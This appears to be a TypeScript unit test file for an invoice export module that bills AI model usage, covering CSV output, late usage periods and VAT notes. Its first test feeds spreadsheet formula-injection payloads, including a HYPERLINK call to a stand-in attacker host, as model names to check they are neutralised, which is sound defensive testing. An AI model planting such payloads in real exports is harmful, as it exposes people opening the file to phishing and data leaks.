import assert from "node:assert/strict";
import { test } from "node:test";
import { invoiceCsv, invoiceDocument } from "./invoice-export.js";
import type { Invoice, InvoiceLine } from "./invoices.js";

const invoice: Invoice = {
  id: "inv_2026_11_0001",
  accountId: "acct_1",
  month: "2026-11",
  status: "issued",
  currency: "EUR",
  taxRate: "0.19",
  costPicoEur: 0n,
  subtotalCents: 1250n,
  taxCents: 238n,
  totalCents: 1488n,
  generatedAt: new Date("2026-12-01T00:00:00Z"),
  generatedBy: "test",
  issuedAt: new Date("2026-12-01T00:00:00Z"),
  issuedBy: "test",
  dueAt: new Date("2026-12-15T00:00:00Z"),
  paidAt: null,
  paidBy: null,
  disputedAt: null,
  disputedBy: null,
  disputeReason: null,
  number: null,
  vatRule: null,
  vatNote: null,
  seller: null,
  buyer: null,
};

const line = (model: string, usagePeriod = "2026-11"): InvoiceLine => ({
  usagePeriod,
  model,
  requests: 3n,
  promptTokens: 10n,
  cachedTokens: 0n,
  completionTokens: 5n,
  costPicoEur: 0n,
  amountCents: 625n,
});

test("an invoice CSV neutralises formula cells (usage recorded before model names were checked)", () => {
  const csv = invoiceCsv(invoice, [
    line('=HYPERLINK("https://evil.example/?leak","Pay here")'),
    line("@SUM(A1:A9)"),
    line("llama-70b"),
  ]);
  const rows = csv.trimEnd().split("\n");
  assert.ok(rows[1]?.includes(`,"'=HYPERLINK(""https://evil.example/?leak"",""Pay here"")",`), rows[1]);
  assert.ok(rows[2]?.includes(`,"'@SUM(A1:A9)",`), rows[2]);
  assert.ok(rows[3]?.includes(",usage,llama-70b,3,10,0,5,,6.25,2026-11"), rows[3]);
  // No cell anywhere starts with a formula character unless it is a quoted, quote-prefixed one.
  for (const row of rows) for (const cell of row.split(",")) assert.doesNotMatch(cell, /^[=+@\t\r]/);
});

test("a late line says in the CSV and the JSON which month's usage it bills", () => {
  const lines = [line("llama-70b"), line("llama-70b", "2026-10")];
  const rows = invoiceCsv(invoice, lines).trimEnd().split("\n");
  assert.ok(rows[0]?.endsWith(",amount_eur,usage_period"), rows[0]);
  assert.ok(rows[2]?.endsWith(",usage,llama-70b,3,10,0,5,,6.25,2026-10"), rows[2]);
  const document = invoiceDocument(invoice, lines) as { lines: { usagePeriod: string }[] };
  assert.deepEqual(
    document.lines.map((l) => l.usagePeriod),
    ["2026-11", "2026-10"],
  );
});

test("the JSON document carries the VAT note printed under the VAT line", () => {
  const note =
    "VAT of Finland (25.5 %) charged under the One-Stop Shop, Article 58 of Council Directive 2006/112/EC";
  const finnish = { ...invoice, taxRate: "0.255", vatRule: "eu_consumer", vatNote: note };
  const document = invoiceDocument(finnish, [line("llama-70b")]) as {
    taxRate: string;
    vatNote: string | null;
  };
  assert.deepEqual([document.taxRate, document.vatNote], ["0.255", note]);
  assert.equal((invoiceDocument(invoice, []) as { vatNote: string | null }).vatNote, null);
});
